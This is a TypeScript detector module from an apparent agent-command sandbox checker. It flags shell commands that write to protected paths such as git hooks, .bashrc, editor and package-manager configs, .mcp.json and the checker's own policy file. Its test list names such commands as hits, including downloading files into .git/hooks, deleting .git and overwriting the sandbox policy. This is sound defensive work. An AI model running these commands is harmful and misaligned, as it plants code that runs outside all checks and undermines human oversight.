/**
 * Writes to protected paths (RULES K3, O28, O37): files that run code later, outside of every check — hooks, start-up
 * files, editor and package manager configuration, sbx's own policy. Only paths that a command names count, not what a
 * program such as git maintains by itself.
 */
import type { AnalysisContext } from '../analyse.ts';
import type { CommandRecord } from '../analyse-command.ts';
import { type Arg, makeArg } from '../args.ts';
import { namesFound } from '../found-names.ts';
import type { Effect, PathTarget } from '../model.ts';
import { normalisePath } from '../path-targets.ts';
import { findProtected, findProtectedByGlob, type ProtectedPath } from '../protected-paths.ts';
import type { Reading } from '../reading.ts';
import { redirectionTargets } from '../redirections.ts';
import type { FindingFamily, Report } from './family.ts';

type Id = 'protected-path';

export const protectedWrites: FindingFamily<Id> = {
  definitions: {
    'protected-path': {
      class: 'escape',
      severity: 'high',
      neverAutoApproved: true,
      hits: [
        'echo x > .git/config',
        'echo x >> ~/.bashrc',
        'cp hook .git/hooks/pre-commit',
        'tee .vscode/settings.json',
        'rm -rf .git',
        'mkdir -p .claude/commands',
        'cd .git && echo x > config',
        'echo x > sub/.GIT/config',
        'ln -s .git/hooks/x y',
        'mv .git old',
        "sed -i 's/a/b/' .npmrc",
        'rm -rf .g*',
        'echo x > "$DIR/.git/config"',
        "bash -c 'echo x > .envrc'",
        'dd if=x of=.mcp.json',
        'cd "$X" && echo a > .husky/pre-commit',
        'echo x > .sbx/policy.json',
        'curl -o .git/hooks/post-checkout https://example.com/x',
        'awk \'{print > ".bashrc"}\' f',
        'for f in .git/config a; do echo x > $f; done',
        'find . -name .git -exec rm -rf {} +',
        'env -C .git tee config',
        'perl -pi -e s/a/b/ .git/config',
        'awk -i inplace 1 .git/config',
        'curl -O --output-dir .git/hooks https://example.com/pre-commit',
        'git format-patch -o .git/hooks HEAD~1',
        'git bundle create .git/hooks/x HEAD',
        'git config -f .git/config a.b c',
        'split f .git/hooks/',
        'ex -s .git/config',
        'history -w .git/hooks/pre-commit',
        'cp -r template/.git .',
        'mv a/.npmrc b/.envrc ./',
        'ln -s ../shared/.vscode',
        'rsync -a template/.husky ./',
        'cp -t . a/.npmrc',
        'find . -name .npmrc -delete',
        'echo x > ${DIR}.bashrc',
        'curl -O https://example.com/.npmrc',
        'wget https://example.com/.bashrc',
        'scp host:.npmrc .',
      ],
      misses: [
        'git commit -m x',
        'git add .',
        'cat .git/config',
        'echo x > .github/workflows/ci.yml',
        'echo x > .gitignore',
        'mkdir -p .claude/worktrees/a',
        'echo x > gitconfig',
        'rm -rf *.tmp',
        'ls -la .git/hooks',
        'cp .git/config backup',
        'find . -name .git -exec ls {} +',
        'find . ! -name .git -exec chmod u+w {} +',
        'git config -f .git/config --get a.b',
        'perl -ne print .git/config',
        'cp a/.npmrc npmrc.txt',
        'cp .npmrc backup.txt',
        'cp -r template/. .',
        'echo x > .cargo.txt',
        'find . -name npmrc -delete',
        'echo x > ${DIR}bashrc',
        'curl -O https://example.com/npmrc.txt',
        'curl https://example.com/.npmrc',
      ],
    },
  },
  inCommand: (record, context, report) => {
    const seen = new Set<string>();
    const once: Report<Id> = (id, message, span, command) => {
      const key = `${span.start}:${span.end}`;
      if (seen.has(key)) return;
      seen.add(key);
      report(id, message, span, command);
    };
    checkEffects(record.result.effects, context, record, once);
    for (const { interpretation, wrapping, reading, args } of record.instances) {
      for (const arg of removedNames(args, reading)) checkArg(arg, record.state.cwd, undefined, context, record, once);
      for (const write of [interpretation, ...wrapping].flatMap((one) => one?.writes ?? []))
        checkArg(write.arg, write.cwd, write.target, context, record, once);
    }
    for (const redirection of record.command.redirections) {
      if (redirection.operator === '<' || redirection.operator === '<&') continue;
      for (const arg of redirectionTargets(redirection, record.values)) {
        checkArg(arg, record.state.cwd, undefined, context, record, once);
      }
    }
  },
  inScript: (_script, _commands, loose, context, report) => {
    checkEffects(loose, context, undefined, report);
  },
};

/** The names that `find -name NAME -delete` removes, wherever it finds them. */
function removedNames(args: readonly Arg[], reading: Reading | undefined): readonly Arg[] {
  const action = reading?.options.find(({ role, value }) => role === 'remove' && value === undefined)?.arg;
  if (reading === undefined || action === undefined) return [];
  return namesFound(args, reading).flatMap((name) =>
    name === undefined ? [] : [makeArg(action.word, [{ kind: 'known', text: name }], false)],
  );
}

function checkEffects(
  effects: readonly Effect[],
  context: AnalysisContext,
  record: CommandRecord | undefined,
  report: Report<Id>,
): void {
  // A command that it runs in turn is reported with its own words.
  const elsewhere = new Set(record?.inner.flatMap((inner) => inner.result.effects));
  for (const effect of effects) {
    if ((effect.kind !== 'write' && effect.kind !== 'remove') || elsewhere.has(effect)) continue;
    const { target } = effect;
    for (const path of [target.path, target.resolved]) {
      const hit = path === undefined ? undefined : findProtected(path, context.catalogue.protectedPaths);
      if (hit !== undefined) reportHit(hit, target, record, report);
    }
  }
}

function checkArg(
  arg: Arg,
  cwd: string | undefined,
  target: PathTarget | undefined,
  context: AnalysisContext,
  record: CommandRecord,
  report: Report<Id>,
): void {
  let text = '';
  for (const piece of arg.pieces) {
    if (piece.kind === 'known' || piece.kind === 'glob') text += piece.text;
    else if (piece.kind === 'number') text += '*';
    else if (piece.kind === 'place' && piece.free) return;
    // Any name: it can stand before or between protected ones, never for one.
    else text += '\u0001';
  }
  if (text === '') return;
  const path = normalisePath(text.startsWith('/') ? text : `${cwd ?? ''}/${text}`);
  const list = context.catalogue.protectedPaths;
  const hit = arg.text === undefined ? findProtectedByGlob(path, list) : findProtected(path, list);
  const span = { start: arg.word.start, end: arg.word.end };
  if (hit !== undefined)
    report('protected-path', messageFor(hit, target?.source ?? arg.word.source), span, record.command.id);
}

function reportHit(
  hit: ProtectedPath,
  target: PathTarget,
  record: CommandRecord | undefined,
  report: Report<Id>,
): void {
  report('protected-path', messageFor(hit, target.source), target.span, record?.command.id);
}

function messageFor(hit: ProtectedPath, source: string): string {
  return `writes \`${source}\`, a protected path: ${hit.because}`;
}
